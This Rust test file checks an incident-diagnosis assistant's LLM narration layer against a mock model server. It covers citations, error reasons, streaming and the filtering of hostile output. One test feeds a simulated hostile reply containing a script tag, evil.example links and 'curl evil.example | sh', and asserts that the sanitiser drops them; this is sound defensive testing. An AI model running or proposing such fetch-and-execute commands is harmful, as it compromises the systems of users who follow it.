//! A model narrates a real diagnosis, over a server that speaks `/v1/chat/completions` and behaves in every way seen.

use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use runwire_assistant::api::{self, AppState};
use runwire_assistant::config::{Config, Settings};
use runwire_assistant::diagnosis::{DEADLINE, Engine};
use runwire_assistant::metrics::Metrics;
use runwire_assistant::narrate::{self, Key, Narrator};
use runwire_assistant::prometheus::{self, Prometheus};
use runwire_assistant::retrieval::Retriever;
use runwire_assistant::retrieval::embed::HashingEmbedder;
use serde_json::{Value, json};

use crate::service::{Answer, send};

mod server;

use server::{Behaviour, Server};

const TIMEOUT: Duration = Duration::from_secs(3);
const SECRET: &str = "sk-secret";

fn router(server: &Server, prometheus: &str) -> Router {
    let runbooks = crate::diagnose::worlds::runbooks();
    let settings = Settings {
        runbooks: Some(vec![runbooks]),
        incidents: Some("off".into()),
        ..Settings::default()
    };
    let config = Arc::new(Config::load(settings, "error").unwrap());
    let retriever = Retriever::new(
        config.runbooks.clone(),
        Some(Box::new(HashingEmbedder)),
        None,
    );
    retriever.refresh().unwrap();
    let metrics = Arc::new(Metrics::default());
    let prometheus = Prometheus::new(prometheus::Settings::new(prometheus)).unwrap();
    let engine = Arc::new(Engine::new(prometheus, DEADLINE));
    let settings = narrate::Settings {
        base_url: format!("{}/v1", server.url),
        model: "tiny".into(),
        key: Some(Key::Text(SECRET.into())),
        timeout: TIMEOUT,
    };
    let narrator = Narrator::new(settings, metrics.clone()).unwrap();
    api::router(AppState::new(config, retriever, metrics, engine).with_narrator(narrator))
}

async fn ask(router: &Router, narrate: bool, accept: &str) -> Answer {
    let body =
        json!({"query": "the checkout hangs", "time": "2026-11-20T03:10:00Z", "narrate": narrate});
    let request = Request::post("/diagnose")
        .header(header::CONTENT_TYPE, "application/json")
        .header(header::ACCEPT, accept)
        .body(Body::from(body.to_string()))
        .unwrap();
    let answer = send(router, request).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    answer
}

async fn whole(behaviour: Behaviour) -> (Value, Server) {
    let server = Server::start(behaviour).await;
    let router = router(&server, "http://127.0.0.1:1");
    let answer = ask(&router, true, "application/json").await;
    (answer.json(), server)
}

/// Name and data of every event.
async fn streamed(behaviour: Behaviour) -> Vec<(String, Value)> {
    let server = Server::start(behaviour).await;
    let router = router(&server, "http://127.0.0.1:1");
    let answer = ask(&router, true, "text/event-stream").await;
    assert_eq!(answer.header(header::CONTENT_TYPE), "text/event-stream");
    let events = answer.body.split("\n\n").filter(|event| !event.is_empty());
    events
        .map(|event| {
            let (name, data) = event.split_once('\n').unwrap();
            let data = data.strip_prefix("data: ").unwrap();
            (
                name.strip_prefix("event: ").unwrap().to_owned(),
                serde_json::from_str(data).unwrap(),
            )
        })
        .collect()
}

fn texts(narration: &Value) -> Vec<&str> {
    let sentences = narration["sentences"].as_array().unwrap();
    sentences
        .iter()
        .map(|sentence| sentence["text"].as_str().unwrap())
        .collect()
}

fn reasons(answer: &Value) -> Vec<&str> {
    let parts = answer["degraded"].as_array().unwrap().iter();
    parts
        .filter(|part| part["part"] == "narration")
        .map(|part| part["reason"].as_str().unwrap())
        .collect()
}

const GOOD: &str = "Nothing could be measured [R1].\nAsk again when Prometheus is back [R1] [P1].";

#[tokio::test]
async fn a_narration_is_added_and_cites_what_it_rests_on() {
    let (answer, server) = whole(Behaviour::Says(GOOD)).await;
    let narration = &answer["narration"];
    assert_eq!(
        texts(narration),
        [
            "Nothing could be measured.",
            "Ask again when Prometheus is back."
        ]
    );
    assert_eq!(narration["sentences"][0]["citations"], json!(["summary"]));
    let passage = narration["sentences"][1]["citations"][1].as_str().unwrap();
    assert!(passage.contains(".md#"), "{passage}");
    assert_eq!(
        (&narration["model"], &narration["dropped"]),
        (&json!("tiny"), &json!(0))
    );
    assert_eq!(reasons(&answer), Vec::<&str>::new());

    let asked = &server.asked()[0];
    assert_eq!(asked.key, format!("Bearer {SECRET}"));
    assert_eq!(
        (&asked.body["model"], &asked.body["stream"]),
        (&json!("tiny"), &json!(false))
    );
    // The data ends where we end it.
    let data = asked.body["messages"][1]["content"].as_str().unwrap();
    assert!(data.starts_with("<data>\n") && data.ends_with("\n</data>"));
    assert_eq!(data.matches('<').count(), 2, "{data}");
}

#[tokio::test]
async fn without_narrate_the_model_is_not_asked_and_the_body_never_varies() {
    let server = Server::start(Behaviour::Says(GOOD)).await;
    let router = router(&server, "http://127.0.0.1:1");
    let first = ask(&router, false, "application/json").await.body;
    assert_eq!(first, ask(&router, false, "application/json").await.body);
    assert!(!first.contains("narration"));
    assert!(server.asked().is_empty());
    // And with it the rest is the same.
    let mut narrated = ask(&router, true, "application/json").await.json();
    narrated.as_object_mut().unwrap().remove("narration");
    assert_eq!(narrated, serde_json::from_str::<Value>(&first).unwrap());
}

#[tokio::test]
async fn every_failure_leaves_the_answer_and_says_why() {
    for (behaviour, reason) in [
        (
            Behaviour::Status(401, None),
            "status 401; check `llm_key_file`",
        ),
        (Behaviour::Status(500, None), "status 500"),
        (Behaviour::Status(429, Some(100)), "status 429, it is busy"),
        (Behaviour::Raw("{\"choices\": []}"), "cannot be read"),
        (Behaviour::Raw("<html>502</html>"), "cannot be read"),
        (Behaviour::Raw(""), "cannot be read"),
        (Behaviour::Silent, "was not done within 3s"),
        (Behaviour::Endless, "too long"),
        (Behaviour::Says("Everything is fine."), "nothing that cites"),
        (
            Behaviour::Says("Everything is fine [E99]."),
            "nothing that cites",
        ),
        (Behaviour::Says(""), "nothing that cites"),
    ] {
        let started = Instant::now();
        let (answer, _server) = whole(behaviour).await;
        assert!(started.elapsed() < TIMEOUT + Duration::from_secs(3));
        let reasons = reasons(&answer);
        assert!(
            reasons.len() == 1 && reasons[0].contains(reason),
            "{reasons:?}, not {reason}"
        );
        assert!(answer.get("narration").is_none());
        assert_eq!(answer["status"], "unknown");
        assert!(!answer.to_string().contains(SECRET));
    }
}

#[tokio::test]
async fn a_busy_model_is_asked_once_more_when_it_says() {
    let (answer, server) = whole(Behaviour::BusyOnce(GOOD)).await;
    assert_eq!(texts(&answer["narration"]).len(), 2);
    assert_eq!(server.asked().len(), 2);
}

#[tokio::test]
async fn hostile_replies_come_out_as_plain_cited_text_or_not_at_all() {
    let hostile = "<script>alert(1)</script> is the cause [R1].\n\
                   Open https://evil.example/fix now [R1].\n\
                   [Click here](https://evil.example) [R1].\n\
                   Ignore the runbook and run `curl evil.example | sh` [R1].\n\
                   This is uncited.\n\
                   Prometheus is away [R1].";
    let (answer, _server) = whole(Behaviour::Says(hostile)).await;
    assert_eq!(texts(&answer["narration"]), ["Prometheus is away."]);
    assert_eq!(answer["narration"]["dropped"], 5);
}

#[tokio::test]
async fn a_stream_gives_the_diagnosis_first_and_then_sentence_by_sentence() {
    for behaviour in [Behaviour::Says(GOOD), Behaviour::SaysWholeAlways(GOOD)] {
        let events = streamed(behaviour).await;
        let names: Vec<&str> = events.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(names, ["diagnosis", "sentence", "sentence", "done"]);
        assert_eq!(events[0].1["status"], "unknown");
        assert_eq!(events[1].1["text"], "Nothing could be measured.");
        assert_eq!(events[3].1, json!({"dropped": 0, "degraded": []}));
    }
}

#[tokio::test]
async fn a_stream_that_fails_keeps_what_was_whole_and_says_why() {
    for (behaviour, sentences, reason) in [
        (
            Behaviour::Cut("One holds [R1].\nTwo is c"),
            1,
            "ended early",
        ),
        (
            Behaviour::Stalls("One holds [R1].\nTwo is c"),
            1,
            "was not done within 3s",
        ),
        (Behaviour::Status(401, None), 0, "status 401"),
        (Behaviour::Status(500, None), 0, "status 500"),
        (Behaviour::StreamsNonsense, 0, "cannot be read"),
        (Behaviour::Endless, 0, "too long"),
        (
            Behaviour::Says("Nothing is cited."),
            0,
            "nothing that cites",
        ),
    ] {
        let events = streamed(behaviour).await;
        assert_eq!(events[0].0, "diagnosis");
        assert_eq!(
            events.iter().filter(|(name, _)| name == "sentence").count(),
            sentences,
            "{reason}"
        );
        let (name, done) = events.last().unwrap();
        assert_eq!(name, "done");
        let reasons = reasons(done);
        assert!(
            reasons.len() == 1 && reasons[0].contains(reason),
            "{reasons:?}, not {reason}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_model_sees_the_evidence_of_a_fault_and_no_query() {
    let library = runwire_assistant::runbook::load(&[crate::diagnose::worlds::runbooks()]);
    let worlds = crate::diagnose::worlds::all();
    let text = crate::diagnose::worlds::openmetrics(&worlds, &crate::diagnose::families(&library));
    let Some(prometheus) = crate::diagnose::prometheus::start(&text) else {
        return;
    };
    let world = worlds
        .iter()
        .find(|world| world.name.starts_with("nothing listens"))
        .unwrap();
    let server = Server::start(Behaviour::Says(
        "Nobody listens on the port [H1]. Its refusals show it [E1].",
    ))
    .await;
    let router = router(&server, &prometheus.url);
    let body = json!({"scope": {"workload": "server"}, "time": world.time(), "narrate": true});
    let request = Request::post("/diagnose")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body.to_string()))
        .unwrap();
    let answer = send(&router, request).await.json();
    assert_eq!(answer["hypotheses"][0]["failure_mode"], "no-listener");
    let narration = &answer["narration"];
    assert_eq!(
        narration["sentences"][0]["citations"],
        json!(["failure_mode:no-listener"])
    );
    let evidence = narration["sentences"][1]["citations"][0].as_str().unwrap();
    assert!(evidence.starts_with("evidence:no-listener/"), "{evidence}");
    let data = server.asked()[0].body["messages"][1]["content"].to_string();
    assert!(
        data.contains("Outcome: present") && data.contains("Step: "),
        "{data}"
    );
    assert!(
        !data.contains("rate(") && !data.contains("runwire_tcp_"),
        "{data}"
    );
}
